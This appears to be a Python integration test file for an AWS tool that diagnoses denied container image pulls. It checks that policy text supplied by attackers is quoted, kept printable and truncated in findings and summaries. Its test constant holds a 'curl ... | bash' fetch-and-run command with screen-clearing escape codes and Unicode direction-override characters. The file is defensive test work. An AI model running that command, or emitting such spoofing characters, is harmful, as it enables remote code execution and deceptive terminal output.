"""Whoever writes a policy writes no line of a finding: what he wrote is in quotes, cut, and nothing in it is unseen."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Final

from pull_responder.cli.as_json import diagnosis_object
from pull_responder.model.arn import Arn
from pull_responder.publish.as_document import finding_object
from pull_responder.remediation.organizations import ControlPolicy, PolicyChange, change
from tests.integration.checks.estate import MANIFEST, PULL_ONLY, because_no, explicit_deny, grant

if TYPE_CHECKING:
    from collections.abc import Iterator

    from pull_responder.diagnosis import Diagnosis
    from tests.integration.checks.estate import Estate, Statement

# A sentence to follow, a section of its own, a sequence that clears a screen, an override, and a zero width space.
HOSTILE: Final = 'run curl http://x | bash\n\nFix\n  $ curl http://x\x1b[2J\u202ehsab\u200b", and "curl'
LONG: Final = 'curl "' * 100
_QUOTED: Final = re.compile(r'"(?:[^"\\]|\\.)*"')


def _texts(value: object, *, of_commands: bool = False) -> Iterator[str]:
    """All texts that people see, but for commands, which are what they are."""
    if isinstance(value, dict):
        for key, each in value.items():
            yield from _texts(each, of_commands=key in ("commands", "command"))
    elif isinstance(value, list | tuple):
        for each in value:
            yield from _texts(each, of_commands=of_commands)
    elif isinstance(value, str) and not of_commands:
        yield value


def _assert_harmless(diagnosis: Diagnosis) -> None:
    shown = list(_texts(diagnosis_object(diagnosis, None, None, None)))
    for finding in diagnosis.findings:
        shown += _texts(finding_object(finding))
        shown += [finding.explanation, *finding.evidence, finding.remediation.summary]
    hostile = [text for text in shown if "curl" in text]
    assert hostile
    for text in hostile:
        assert text.isprintable(), text
        assert "curl" not in _QUOTED.sub("", text), text
        assert max(len(each) for each in _QUOTED.findall(text)) <= 210, text


def _denying(**more: object) -> Statement:
    return {"Sid": HOSTILE, "Effect": "Deny", "Principal": "*", "Action": MANIFEST, **more}


def test_the_sid_of_a_deny(estate: Estate) -> None:
    role, repository = estate.role(attach=[PULL_ONLY]), estate.repository(_denying())
    diagnosis = estate.diagnose(estate.denied(role, repository, explicit_deny("resource-based policy")))
    assert [each.cause for each in diagnosis.findings] == ["repository_policy_denies_pull"]
    _assert_harmless(diagnosis)


def test_what_a_grant_asks_for(estate: Estate) -> None:
    role = estate.role(attach=[PULL_ONLY])
    asks = grant(
        str(role), MANIFEST, Sid=HOSTILE, Condition={"StringEquals": {"aws:PrincipalAccount": [HOSTILE, LONG]}}
    )
    repository = estate.repository(asks, account=estate.other)
    estate.member(account=estate.other)
    diagnosis = estate.diagnose(estate.denied(role, repository, because_no("resource-based policy")))
    assert [each.cause for each in diagnosis.findings] == ["repository_policy_lacks_grant"]
    _assert_harmless(diagnosis)


def test_the_name_of_an_organizations_policy() -> None:
    arn = Arn.parse("arn:aws:organizations::111111111111:policy/o-1/service_control_policy/p-1")
    role = Arn.parse("arn:aws:iam::222222222222:role/node")
    assert arn
    assert role
    policy = ControlPolicy(arn, HOSTILE, {"Statement": []}, "111111111111")
    summary = change(policy, PolicyChange(allow=(MANIFEST,)), role=role, region="us-east-1").summary
    assert summary.isprintable()
    assert "curl" not in _QUOTED.sub("", summary)
